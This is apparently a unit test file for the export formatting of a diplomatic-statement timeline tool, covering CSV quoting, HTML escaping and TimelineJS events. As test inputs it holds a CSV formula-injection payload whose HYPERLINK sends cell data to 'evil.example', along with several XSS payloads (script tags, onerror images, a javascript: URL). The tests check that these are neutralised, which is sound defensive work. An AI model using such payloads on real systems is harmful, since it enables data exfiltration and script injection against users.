import { escapeHtml, headlineHtmlOf, headlineOf, htmlTextOf } from './statement-text.js';
import { csvCell, csvRow, timelineJsEvent } from './timeline-export.js';
import type { StatementView } from './types.js';

const view = (fields: Partial<StatementView> = {}): StatementView => ({
  id: '00000000-0000-4000-8000-000000000001',
  occurredOn: '2019-05-16',
  speaker: { name: 'Wang Yi', role: 'State Councilor', country: 'CN' },
  speakerCountry: 'CN',
  targets: ['TR'],
  mentions: [],
  topics: ['xinjiang'],
  kind: 'APPEAL',
  text: 'China hopes Turkey will "respect" <its> sovereignty & security',
  attribution: 'PARAPHRASE',
  sources: [{ url: 'https://example.org/a?x=1&y="2"', outlet: 'Example <News>' }],
  status: 'ACTIVE',
  version: 1,
  recordedAt: '2024-01-01T00:00:00.000Z',
  updatedAt: '2024-01-01T00:00:00.000Z',
  respondsTo: [],
  recordedPosition: 1n,
  lastPosition: 1n,
  ...fields,
});

describe('timeline export formatting', () => {
  it('quotes CSV fields as RFC 4180 says: only when needed, quotes doubled, CRLF line ends', () => {
    expect(csvRow(['plain', 'a,b', 'say "no"', 'two\nlines', 'cr\rhere', ''])).toBe(
      'plain,"a,b","say ""no""","two\nlines","cr\rhere",\r\n',
    );
  });

  it('escapes the statement in HTML and links only http(s) sources', () => {
    const html = htmlTextOf(view());
    expect(html).toContain(
      'China hopes Turkey will &quot;respect&quot; &lt;its&gt; sovereignty &amp; security',
    );
    expect(html).toContain(
      '<a href="https://example.org/a?x=1&amp;y=&quot;2&quot;" rel="noopener noreferrer">',
    );
    expect(html).toContain('Example &lt;News&gt;</a>');
    expect(html).toContain('<em>Paraphrase</em> · Wang Yi, State Councilor');
    const odd = htmlTextOf(view({ sources: [{ url: 'javascript:alert(1)' }], attribution: 'DIRECT_QUOTE' }));
    expect(odd).not.toContain('<a ');
    expect(odd).toContain('<blockquote>');
    expect(htmlTextOf(view({ status: 'RETRACTED' }))).toContain('retracted');
    expect(escapeHtml(`<'&">`)).toBe('&lt;&#39;&amp;&quot;&gt;');
  });

  it('gives TimelineJS only the date parts the statement has', () => {
    expect(timelineJsEvent(view()).start_date).toEqual({ year: 2019, month: 5, day: 16 });
    expect(timelineJsEvent(view({ occurredOn: '2019-05' })).start_date).toEqual({ year: 2019, month: 5 });
    expect(timelineJsEvent(view({ occurredOn: '2019' })).start_date).toEqual({ year: 2019 });
    // groups are kinds since issue 13 (they were speaker countries: 16 groups left slides no room)
    expect(timelineJsEvent(view()).group).toBe('Appeal');
  });

  it('headlines say which country, to whom and what was done (names come from the apps: codes here)', () => {
    expect(headlineOf(view())).toBe('CN → TR: makes an appeal');
    expect(headlineOf(view({ speakerCountry: undefined, targets: [], kind: 'REJECT' }))).toBe(
      'Wang Yi: rejects',
    );
  });

  it('keeps response links in the detail every export shows (TimelineJS text, CSV Text)', () => {
    const responding = view({ respondsTo: ['00000000-0000-4000-8000-0000000000aa'] });
    expect(timelineJsEvent(responding).text.text).toContain(
      '<p>Responds to: <a href="#event-statement-00000000-0000-4000-8000-0000000000aa">statement 00000000-0000-4000-8000-0000000000aa</a></p>',
    );
    expect(timelineJsEvent(view()).text.text).not.toContain('Responds to');
  });

  it('neutralises every CSV cell a spreadsheet would read as a formula (OWASP), and quotes it', () => {
    for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) {
      const cell = `${start}HYPERLINK("http://evil.example/?"&A1,"x")`;
      const encoded = csvCell(cell);
      expect(encoded.startsWith(`"'${start}`)).toBe(true);
      expect(encoded).toBe(`"'${cell.replaceAll('"', '""')}"`);
    }
    expect(csvCell('=1+1')).toBe(`"'=1+1"`);
    expect(csvCell('2019')).toBe('2019');
    expect(csvCell('a=b')).toBe('a=b');
    expect(csvCell(' =1')).toBe(' =1');
    expect(csvRow(['@SUM(A1:A9)', 'ok', '-2+3'])).toBe(`"'@SUM(A1:A9)",ok,"'-2+3"\r\n`);
  });

  it('escapes stored markup in every text field of a TimelineJS event', () => {
    const hostile = view({
      speaker: { name: '<a href="https://evil.example" style="position:fixed;inset:0">x</a>', country: 'CN' },
      // no speaker country, so the (hostile) name is the headline's subject
      speakerCountry: undefined,
      text: '</script><script>alert(1)</script>',
      sources: [
        {
          url: 'https://example.org/"><img src=x onerror=alert(1)>',
          outlet: '"><img src=x onerror=alert(2)>',
        },
      ],
    });
    const event = timelineJsEvent(hostile);
    const texts = [event.text.headline, event.text.text, event.group ?? ''];
    // the only elements are the ones the export writes itself: no stored tag survives as markup
    const tags = texts.flatMap((text) => [...text.matchAll(/<([a-z]+)/gi)].map((m) => m[1]));
    expect(new Set(tags)).toEqual(new Set(['p', 'em', 'a']));
    expect(event.text.text.match(/<a /g)).toHaveLength(1); // the source link, its URL escaped in the attribute
    expect(event.text.text).toContain(
      'href="https://example.org/&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"',
    );
    expect(event.text.headline).toBe(
      '&lt;a href=&quot;https://evil.example&quot; style=&quot;position:fixed;inset:0&quot;&gt;x&lt;/a&gt; → TR: makes an appeal',
    );
    expect(headlineHtmlOf(hostile)).toBe(event.text.headline);
    expect(event.text.text).toContain('&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
  });
});
